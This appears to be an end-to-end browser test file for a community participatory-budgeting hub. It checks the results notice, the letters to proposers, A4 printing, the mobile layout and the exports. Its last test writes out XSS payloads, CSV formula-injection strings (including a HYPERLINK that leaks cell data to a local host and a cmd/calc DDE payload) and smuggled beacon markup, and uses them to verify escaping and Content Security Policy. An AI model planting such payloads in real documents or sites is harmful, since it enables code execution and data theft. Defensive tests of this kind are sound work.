// The printed documents in real Chromium after a real vote (phone ballots, a
// paper batch keyed twice with one ballot over the limit, an adviser's
// exclusion): the results notice at /notice (not before the count), checked
// for the head hash and the budget line, printed to A4 PDF without
// overflowing; the letters to proposers printed from the organiser's
// console, one A4 page each, each naming its reason; the workbook and the
// Pabulib file downloaded from the console equal to `hub export`.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startHub, launch, shot, docShot, axeViolations, exportJson, hubCmd, until, pdfPages } from './harness.mjs';
import { driver } from './driver.mjs';

const A4 = { width: 794, height: 1123 }; // CSS pixels at 96 dpi
const MEETING = `[meeting]
name = "幸福里社区“幸福微实事”项目筛选大会"
venue = "幸福里社区党群服务中心多功能厅"
date = "2026-11-28"
proposals = "proposals.csv"

[rules]
tables = 6
max_choices = 3
allocation = "greedy_skip"
tie_break = "lower_cost"

[rules.budget]
amount = 120000
`;

let hub, browser, d;
const scratch = mkdtempSync(join(tmpdir(), 'yz-exports-'));

before(async () => {
  hub = await startHub({ voters: 12, meeting: MEETING });
  browser = await launch();
  d = await driver(browser, hub);
  await d.organise({ kind: 'open_meeting' });
  await d.connect('adviser', hub.tokens.adviser_all.token);
  const a = await d.command('adviser', {
    kind: 'annotate', proposal: 'P03', feasibility: 'excluded', exclusion_rule: 2,
    reason: '公厕属于物业管理范围，应由物业公司维修', remark: '已转交物业公司处理',
  });
  assert.equal(a.type, 'ack', JSON.stringify(a));
  // The organiser confirms the advice before the vote: no phone can choose P03 from then on.
  const c = await d.organise({ kind: 'confirm_exclusion', proposal: 'P03', rule: 2, reason: '' });
  assert.equal(c.type, 'ack', JSON.stringify(c));
  await d.advanceTo('voting');
  const choices = [['P04', 'P01', 'P02'], ['P04', 'P01', 'P11'], ['P04', 'P05'], ['P04', 'P06'], ['P01', 'P07'],
    ['P08'], ['P04', 'P09'], ['P01', 'P02'], ['P10', 'P04'], ['P02', 'P05'], ['P07', 'P10'], ['P12']];
  const receipts = await d.castBallots(hub.tokens.voters.map((v, i) => ({ token: v.token, choices: choices[i] })));
  assert.ok(receipts.every((r) => /^[0-9A-Z]{4}-[0-9A-Z]{4}$/.test(r)), receipts.join(' '));
  for (const n of [0, 1]) {
    await d.desk(`counter${n}`, hub.tokens.counters[n].token);
    for (const [number, marks] of [['201', ['P01', 'P02']], ['202', ['P01', 'P02', 'P03', 'P04']]]) {
      assert.equal((await d.command(`counter${n}`, { kind: 'key_paper', batch: 1, number, marks })).type, 'ack');
    }
    assert.equal((await d.command(`counter${n}`, { kind: 'finish_paper', batch: 1 })).type, 'ack');
  }
  await d.desk('scrutineer', hub.tokens.scrutineers[0].token);
  assert.equal((await d.command('scrutineer', { kind: 'declare_sheets', batch: 1, sheets: 2 })).type, 'ack');
});
after(async () => {
  await browser?.close();
  await hub?.stop();
  rmSync(scratch, { recursive: true, force: true });
});

/** Nothing wider than the paper, as laid out for print at A4 width. */
async function overflow(page) {
  return page.evaluate(() => {
    const limit = document.documentElement.clientWidth;
    const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > limit + 1);
    return { scroll: document.documentElement.scrollWidth, limit, wide: wide.slice(0, 5).map((e) => e.tagName + '.' + e.className) };
  });
}

test('the notice is not published before the count, then shows the head and the budget line and prints on A4', async () => {
  const page = await browser.newPage({ viewport: A4 });
  const early = await page.goto(`${hub.url}/notice`);
  assert.equal(early.status(), 404);
  assert.match(await page.textContent('body'), /尚未发布/);

  await d.organise({ kind: 'advance_phase', to: 'counted' });
  const ex = exportJson(hub);
  const rows = ex.results.ranking;
  const lastFunded = rows.map((r) => r.funded).lastIndexOf(true);
  assert.ok(lastFunded >= 0 && rows.some((r) => !r.funded));

  const res = await page.goto(`${hub.url}/notice`);
  assert.equal(res.status(), 200);
  const body = await page.textContent('body');
  const spaced = ex.log_head.match(/.{8}/g).join(' ');
  assert.ok(body.includes(spaced), 'the full log head, grouped in eights');
  assert.ok(body.includes(`以 ${ex.log_head.slice(0, 16)} 开头`), 'how to check it, in words');
  assert.doesNotMatch(await page.evaluate(() => document.body.innerText), /hub verify|hub export/, 'no command names');
  // The results before the rules.
  const heads = await page.$$eval('h2', (hs) => hs.map((h) => h.textContent));
  assert.ok(heads.findIndex((h) => /排名与资助/.test(h)) < heads.findIndex((h) => /规则/.test(h)), heads.join(' | '));
  // The budget line sits right under the last funded row.
  const line = await page.evaluate(() => {
    const tr = document.querySelector('.rank tr.line');
    const above = tr && tr.previousElementSibling;
    const r = tr && tr.getBoundingClientRect();
    return tr && { text: tr.textContent, above: above.children[1].textContent, funded: above.classList.contains('funded'), height: r.height, border: getComputedStyle(tr.cells[0]).borderTopWidth };
  });
  assert.ok(line, 'a budget line row');
  assert.match(line.text, /预算线/);
  assert.equal(line.above, rows[lastFunded].proposal);
  assert.ok(line.funded && line.height > 10 && parseFloat(line.border) >= 2, JSON.stringify(line));
  assert.match(body, /作废 1 张/);
  assert.match(body, /主持人[\s\S]*监票员[\s\S]*计票员/);
  assert.deepEqual(await axeViolations(page), []);
  await page.locator('.rank tr.line').scrollIntoViewIfNeeded();
  await docShot(page, 'notice');

  await page.emulateMedia({ media: 'print' });
  const o = await overflow(page);
  assert.ok(o.scroll <= o.limit && o.wide.length === 0, JSON.stringify(o));
  const pdf = await page.pdf({ format: 'A4', preferCSSPageSize: true, printBackground: true });
  const { pages, a4 } = pdfPages(pdf);
  assert.ok(a4, 'A4 pages');
  assert.ok(pages >= 2 && pages <= 4, `60 proposals on ${pages} pages`);
  // Printed, both languages, as before.
  assert.ok(await page.isVisible('.rank th .en') && await page.isVisible('.rank th .zh'), 'both languages on paper');
  await page.close();
});

test('the notice on a 360 px phone: one language at a time, one block per proposal, nothing overlapping', async () => {
  const page = await browser.newPage({ viewport: { width: 360, height: 640 } });
  await page.goto(`${hub.url}/notice`);
  const ex = exportJson(hub);
  // Chinese first (the meeting's language), English on the switch, both on the third.
  assert.equal(await page.isVisible('h1 .zh'), true);
  assert.equal(await page.isVisible('h1 .en'), false);
  /** Pairs of visible boxes (text-bearing leaves) that overlap, and anything wider than the screen. */
  const clashes = () => page.evaluate(() => {
    const boxes = [];
    for (const el of document.querySelectorAll('body *')) {
      if (!el.checkVisibility() || [...el.children].some((c) => c.checkVisibility())) continue;
      if (!el.textContent.trim() && el.tagName !== 'INPUT') continue;
      // Each line of a wrapped inline element is a box of its own.
      for (const r of el.getClientRects()) if (r.width > 0 && r.height > 0) boxes.push({ el, r });
    }
    const out = [];
    for (const { el, r } of boxes) if (r.right > innerWidth + 0.5) out.push(`wider than the screen: ${el.textContent.slice(0, 30)}`);
    for (let i = 0; i < boxes.length; i++) {
      for (let j = i + 1; j < boxes.length; j++) {
        const a = boxes[i].r, b = boxes[j].r;
        if (a.top > b.bottom + 50) continue;
        if (boxes[i].el === boxes[j].el || boxes[i].el.contains(boxes[j].el) || boxes[j].el.contains(boxes[i].el)) continue;
        const x = Math.min(a.right, b.right) - Math.max(a.left, b.left), y = Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top);
        if (x > 1 && y > 1) out.push(`${boxes[i].el.textContent.slice(0, 20)} × ${boxes[j].el.textContent.slice(0, 20)}`);
      }
    }
    return out.slice(0, 10);
  });
  assert.deepEqual(await clashes(), []);
  // One block per proposal: each row as wide as the list, rank, number and title on its first line.
  const rows = await page.$$eval('.rank tbody tr:not(.line)', (trs) => trs.map((tr) => ({ w: tr.getBoundingClientRect().width, display: getComputedStyle(tr).display })));
  assert.equal(rows.length, ex.results.ranking.length);
  assert.ok(rows.every((r) => r.display === 'flex' && r.w > 300), JSON.stringify(rows[0]));
  await page.locator('.rank tr.line').scrollIntoViewIfNeeded();
  await shot(page, 'notice-phone');
  await page.click('label[for="lang-en"]');
  await page.waitForFunction(() => getComputedStyle(document.querySelector('h1 .zh')).display === 'none', null, { timeout: 10000 });
  assert.equal(await page.isVisible('h1 .en'), true);
  assert.doesNotMatch(await page.$eval('.rank', (t) => t.innerText), /[\u4e00-\u9fff]{2}资助|得票|造价|累计/);
  assert.deepEqual(await clashes(), []);
  await shot(page, 'notice-phone-en');
  assert.deepEqual(await axeViolations(page), []);
  await page.close();
});

test('the console prints the letters: one A4 page per proposal not funded, each naming its reason', async () => {
  const context = await browser.newContext({ viewport: { width: 1100, height: 900 }, acceptDownloads: true });
  const page = await context.newPage();
  await page.goto(hub.tokens.organiser.link);
  await page.waitForSelector('#view-meeting:not([hidden])');
  await page.click('[data-tab="export"]');
  await page.waitForSelector('#view-export:not([hidden])');
  await shot(page, 'admin-exports');
  await page.click('#print-letters');
  await page.waitForSelector('#print-frame');
  const frame = await until(async () => {
    const f = page.frames().find((x) => x !== page.mainFrame());
    return f && (await f.$$('.letter')).length > 0 && f;
  }, 'the letters in the print frame');
  const html = await frame.content();
  assert.match(await page.textContent('#say'), /打印/);

  const ex = exportJson(hub);
  const unfunded = ex.results.ranking.filter((r) => !r.funded);
  const letters = await frame.$$eval('.letter', (ls) => ls.map((l) => ({ id: l.dataset.proposal, reason: l.dataset.reason, text: l.textContent })));
  assert.deepEqual(letters.map((l) => l.id), unfunded.map((r) => r.proposal), 'one letter per proposal not funded, in ranking order');
  const words = {
    excluded: [/第2条“应由其他主体负责（如物业）”/, /公厕属于物业管理范围/, /exclusion rules/],
    does_not_fit: [/预算只剩 [\d,]+ 元/, /放不下/, /did not fit/],
    no_votes: [/没有获得选票/, /received no votes/],
  };
  for (const l of letters) {
    const row = unfunded.find((r) => r.proposal === l.id);
    const reason = l.id === 'P03' ? 'excluded' : row.unfunded_reason;
    assert.equal(l.reason, reason, l.id);
    for (const w of words[reason]) assert.match(l.text, w, `${l.id} (${reason})`);
    assert.ok(l.text.includes(`${row.votes} 票`) && l.text.includes(`第 ${row.position} 位`), `${l.id}: votes and place`);
  }
  assert.ok(letters.some((l) => l.reason === 'does_not_fit') && letters.some((l) => l.reason === 'no_votes'));
  const p03 = letters.find((l) => l.id === 'P03');
  assert.match(p03.text, /尊敬的社区老年协会/);

  // The same letters on their own, laid out for A4.
  const sheet = await browser.newPage({ viewport: A4 });
  await sheet.setContent(html);
  await shot(sheet, 'letters');
  const first = await sheet.$eval('.letter', (l) => l.textContent);
  assert.match(first, /结果：未获资助/);
  await sheet.emulateMedia({ media: 'print' });
  const o = await overflow(sheet);
  assert.ok(o.scroll <= o.limit && o.wide.length === 0, JSON.stringify(o));
  // Printable height of an A4 page with the letters' margins (14 + 15 mm).
  const printable = (297 - 29) * 96 / 25.4;
  const tall = await sheet.$$eval('.letter', (ls, max) => ls.filter((l) => l.getBoundingClientRect().height > max).map((l) => l.dataset.proposal), printable);
  assert.deepEqual(tall, [], 'every letter fits one page');
  const pdf = await sheet.pdf({ format: 'A4', preferCSSPageSize: true, printBackground: true });
  const { pages, a4 } = pdfPages(pdf);
  assert.ok(a4, 'A4 pages');
  assert.equal(pages, letters.length, 'one page per letter');
  await sheet.close();

  // The workbook and the Pabulib file, downloaded: what hub export writes.
  for (const [button, format, name] of [['#export-xlsx', 'xlsx', 'yuanzhuo-results.xlsx'], ['#export-pb', 'pabulib', 'yuanzhuo.pb']]) {
    const [dl] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
    assert.equal(dl.suggestedFilename(), name);
    const out = join(scratch, name);
    hubCmd(['export', '--data', hub.data, '--format', format, '--out', out]);
    assert.ok(readFileSync(await dl.path()).equals(readFileSync(out)), `${name} is hub export --format ${format}`);
  }
  await context.close();
});

// ---------------------------------------------------------------- hostile text

const H = {
  script: '<script>window.__pwned=1</script>',
  img: '"><img src=x onerror="window.__pwned=1">',
  link: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"点我")',
  cmd: "+cmd|' /C calc'!A0",
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const toml = (s) => JSON.stringify(s); // a TOML basic string is a JSON string here (no control characters)
const field = (s) => `"${s.replace(/"/g, '""')}"`;

test('documents made from hostile text run nothing when opened from disk, and their policy blocks what got in', async () => {
  const meeting = `[meeting]
name = ${toml(`幸福里${H.script}`)}
venue = ${toml(H.img)}
date = "2026-11-28"
proposals = "hostile.csv"

[rules]
table_names = [${toml(H.link)}, ${toml(H.script)}, ${toml(H.img)}]
picks_per_table = 1
max_choices = 3

[rules.budget]
amount = 40000
currency = ${toml('<img src=x onerror=window.__pwned=1>元')}
`;
  const rows = [['P01', H.link, H.script, H.cmd, H.img, 10000], ['P02', H.cmd, H.img, H.sum, H.script, 20000],
    ['P03', H.sum, H.link, H.script, H.cmd, 15000], ['P04', H.script, H.sum, H.img, H.link, 12000],
    ['P05', H.img, H.cmd, H.link, H.sum, 30000], ['P06', '-2+3', H.script, H.img, H.cmd, 8000]];
  const csv = 'id,title,description,location,category,proposer,cost\n' +
    rows.map(([id, t, l, c, p, cost]) => [id, field(t), field(`${t} ${H.script}`), field(l), field(c), field(p), cost].join(',')).join('\n') + '\n';
  const dir = mkdtempSync(join(tmpdir(), 'yz-hostile-'));
  writeFileSync(join(dir, 'hostile.csv'), csv);
  writeFileSync(join(dir, 'hostile.toml'), meeting.replace('"hostile.csv"', toml(join(dir, 'hostile.csv'))));
  const h = await startHub({ voters: 6, meeting: readFileSync(join(dir, 'hostile.toml'), 'utf8') });
  const dd = await driver(browser, h);
  try {
    await dd.organise({ kind: 'open_meeting' });
    await dd.connect('adviser', h.tokens.adviser_all.token);
    const a = await dd.command('adviser', { kind: 'annotate', proposal: 'P02', feasibility: 'excluded', exclusion_rule: 2, reason: H.script, remark: `${H.img} ${H.link}` });
    assert.equal(a.type, 'ack', JSON.stringify(a));
    await dd.advanceTo('voting');
    const choices = [['P01', 'P02'], ['P01', 'P03'], ['P05', 'P01'], ['P04'], ['P03', 'P05'], ['P02', 'P06']];
    await dd.castBallots(h.tokens.voters.map((v, i) => ({ token: v.token, choices: choices[i] })));
    await dd.advanceTo('counted');

    for (const format of ['notice', 'letters']) {
      const file = join(dir, `${format}.html`);
      hubCmd(['export', '--data', h.data, '--format', format, '--out', file]);
      // And a copy into which markup was smuggled past the escaping: the document's own policy must stop it.
      const smuggled = join(dir, `${format}-smuggled.html`);
      writeFileSync(smuggled, readFileSync(file, 'utf8').replace('<body>', `<body>${H.script}<img src=x onerror="window.__pwned=1"><img src="http://127.0.0.1:9/beacon">`));
      for (const path of [file, smuggled]) {
        const page = await browser.newPage({ viewport: A4 });
        const dialogs = [], requests = [], blocked = [], violations = [];
        page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
        // A request the policy blocks is reported as started, then failed: only a finished one got out.
        page.on('requestfinished', (r) => { if (!r.url().startsWith('file:')) requests.push(r.url()); });
        page.on('requestfailed', (r) => { if (!r.url().startsWith('file:')) blocked.push(r.failure().errorText); });
        page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
        await page.goto(`file://${path}`);
        await page.waitForLoadState('load');
        const state = await page.evaluate(() => ({
          pwned: window.__pwned,
          elements: document.querySelectorAll('body script, body img, body iframe, [onerror], [onload]').length,
          text: document.body.textContent,
          styled: getComputedStyle(document.body).maxWidth,
        }));
        assert.equal(state.pwned, undefined, `${path}: a script ran`);
        assert.deepEqual(dialogs, [], `${path}: a dialog opened`);
        assert.deepEqual(requests, [], `${path}: it fetched something`);
        assert.notEqual(state.styled, 'none', `${path}: its own style sheet applies under its policy`);
        if (path === file) {
          assert.equal(state.elements, 0, `${format}: the hostile markup became elements`);
          assert.ok(state.text.includes(H.script) && state.text.includes('<img src=x onerror=window.__pwned=1>元'), `${format}: shown as text`);
          if (format === 'notice') await shot(page, 'notice-hostile');
        } else {
          assert.ok(state.elements >= 2, 'the smuggled markup is there…');
          assert.ok(violations.length >= 1, '…and the policy refused it');
          assert.ok(blocked.length >= 1 && blocked.every((e) => /csp/i.test(e)), 'blocked by the policy: ' + blocked.join(' '));
        }
        await page.close();
      }
    }
  } finally {
    await h.stop();
    rmSync(dir, { recursive: true, force: true });
  }
});
